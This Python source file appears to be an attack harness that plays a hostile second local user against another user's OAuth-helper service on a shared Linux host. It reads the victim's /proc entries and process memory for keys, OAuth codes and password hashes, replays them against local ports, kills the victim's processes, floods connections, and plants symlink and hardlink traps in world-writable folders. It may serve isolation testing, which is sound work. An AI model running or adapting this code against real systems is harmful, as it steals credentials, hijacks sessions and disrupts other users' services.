"""The second user of a machine: looks for what the first one's link shows, and tries all of it. Standard library alone.

The first argument says what to do, as JSON (:class:`Task`); the report is one line of JSON. ``attack`` keeps its
connections open until standard input ends.
"""

from __future__ import annotations

import json
import os
import re
import socket
import sys
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import asdict, dataclass, field
from pathlib import Path
from signal import SIGKILL

from second_user_requests import ask, drive, requests, without_a_key

OF_A_PROCESS = ("environ", "maps", "mem", "auxv", "io", "stack", "syscall", "fd", "map_files", "cwd", "exe")
"""What the system shows of a process to its owner alone."""
KEY = re.compile(r"(?:127\.0\.0\.1:(\d+)/\w+\?|\b)k=([\w-]{22,})")
IN_MEMORY = re.compile(rb"k=[\w-]{43}|(?:state|code)=[\w%$./-]{16,120}|\$2a\$10\$[\w./]{53}|oauth-helper-\d+=[\w-]{43}")
"""What is worth taking from a process's memory."""
LONGEST = 1 << 16
"""Bytes read of a file."""


@dataclass
class Task:
    """What to do, to whom, and what the second user can find out by itself."""

    what: str
    """``plant``: before the link starts; ``look``; ``attack``: look, then try."""
    owner: int
    """The first user's number."""
    places: list[str]
    """Folders of the first user's."""
    shared: list[str]
    """Folders that everybody can write."""
    patience: float = 10
    """Seconds for an answer."""
    connections: int = 0
    """How many to open and keep open."""


@dataclass
class Report:
    """What came of it."""

    loot: list[str] = field(default_factory=list)
    """All that was read."""
    opened: list[str] = field(default_factory=list)
    """Where: what should be the first user's alone. Names of files, and of things in /proc."""
    refused: int = 0
    keys: list[str] = field(default_factory=list)
    ports: list[int] = field(default_factory=list)
    answers: list[tuple[str, str]] = field(default_factory=list)
    """What was tried, and the whole answer."""
    signalled: int = 0
    planted: int = 0
    held: int = 0


def processes(owner: int) -> Iterator[Path]:
    for process in Path("/proc").glob("[0-9]*"):
        # Not the folder's owner: that is root where a process is not to be traced, as Chromium's are.
        with suppress(OSError):
            if re.search(rf"^Uid:\t{owner}\t", (process / "status").read_text(), re.MULTILINE):
                yield process


def process_list() -> Iterator[str]:
    """What ps(1) shows of everybody's processes."""
    for process in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            yield (process / "cmdline").read_text(errors="replace").replace("\0", " ")


def look(task: Task, report: Report) -> None:
    report.loot += [*process_list(), *((Path("/proc/net") / name).read_text() for name in ("tcp", "unix"))]
    for process in processes(task.owner):
        for name in OF_A_PROCESS:
            look_at(process / name, report)
    for place in task.places:
        look_through(Path(place), report)
    for shared in task.shared:
        for entry in Path(shared).iterdir():
            with suppress(OSError):
                if entry.lstat().st_uid == task.owner:
                    look_through(entry, report)
    report.ports = listening_ports(task.owner)
    found = KEY.findall("\n".join(report.loot))
    report.keys = sorted({key for port, key in found if not port or int(port) in report.ports})


def listening_ports(owner: int) -> list[int]:
    """What /proc/net/tcp tells everybody: local address, remote address, state (0A: listening), …, user."""
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return [int(row[1].partition(":")[2], 16) for row in rows if row[3] == "0A" and int(row[7]) == owner]


def look_through(place: Path, report: Report) -> None:
    if place.is_symlink() or not place.is_dir():
        look_at(place, report)
        return
    for folder, _, names in os.walk(place, onerror=lambda _error: count_refusal(report)):
        for name in names:
            look_at(Path(folder) / name, report)


def count_refusal(report: Report) -> None:
    report.refused += 1


def look_at(path: Path, report: Report) -> None:
    try:
        text = content(path)
    except PermissionError:
        report.refused += 1
    except OSError:  # gone meanwhile, or not of this kernel
        pass
    else:
        report.loot.append(text)
        if text or path.parts[1] != "proc":  # of a process that has just ended there is nothing to see
            report.opened.append(str(path))


def content(path: Path) -> str:
    if path.is_symlink():
        return str(path.readlink())
    if path.is_dir():
        return "\n".join(f"{entry} {entry.readlink()}" for entry in path.iterdir())
    if path.name == "mem" and path.parts[1] == "proc":
        return memory(path)
    if not path.is_file():
        raise FileNotFoundError(path)  # a socket, or a FIFO that would hold us
    with path.open("rb") as file:
        return file.read(LONGEST).decode(errors="replace").replace("\0", " ")


def memory(path: Path) -> str:
    """What is worth taking from the writable memory of a process of Python's; of others it is only opened."""
    found: set[bytes] = set()
    with path.open("rb", buffering=0) as file:
        if b"oauth_helper" not in path.with_name("cmdline").read_bytes():
            return ""
        for line in path.with_name("maps").read_text().splitlines():
            begin, end = (int(number, 16) for number in line.split()[0].split("-"))
            if " rw-p " in line and end - begin < 1 << 26:
                with suppress(OSError, OverflowError):
                    file.seek(begin)
                    found |= set(IN_MEMORY.findall(file.read(end - begin)))
    return "\n".join(sorted(match.decode() for match in found))


def attack(task: Task, report: Report) -> list[socket.socket]:
    for port in report.ports:
        for request in [r for key in report.keys for r in requests(port, key)] + list(without_a_key(port)):
            report.answers.append((f"{port} {request}", ask(port, request, task.patience)))
        report.answers.append((f"{port} session.new", drive(port, task.patience)))
    for process in processes(task.owner):
        with suppress(PermissionError, ProcessLookupError):
            os.kill(int(process.name), 0 if task.owner == os.getuid() else SIGKILL)
            report.signalled += 1
    return [connection for port in report.ports for connection in crowd(port, task.connections)]


def crowd(port: int, connections: int) -> Iterator[socket.socket]:
    for number in range(connections):
        with suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", port), 10)
            connection.sendall(b"GET /start?k=" if number % 2 else b"")
            yield connection


def plant(task: Task, report: Report) -> None:
    """Lay what the first user's command might follow, fill or clear away, under names that it would use."""
    target = task.places[0]
    for shared in task.shared:
        for number in (1, os.getpid(), 999_999_999):
            (Path(shared) / f"oauth-helper-{number}-link{task.owner}").symlink_to(target)
            folder = Path(shared) / f"oauth-helper-{number}-folder{task.owner}"
            folder.mkdir(0o777)
            (folder / "owner.lock").symlink_to(f"{target}/of-mine")
            (folder / "inside").symlink_to(target)
            with suppress(OSError):  # fs.protected_hardlinks (proc_sys_fs(5))
                os.link(f"{target}/of-mine", Path(shared) / f"oauth-helper-{number}-hard{task.owner}")
            report.planted += 2


def main() -> None:
    task, report = Task(**json.loads(sys.argv[1])), Report()
    held: list[socket.socket] = []
    if task.what == "plant":
        plant(task, report)
    else:
        look(task, report)
    if task.what == "attack":
        held = attack(task, report)
        report.held = len(held)
    sys.stdout.write(json.dumps(asdict(report)) + "\n")
    sys.stdout.flush()
    sys.stdin.read()
    for connection in held:
        connection.close()


if __name__ == "__main__":
    main()
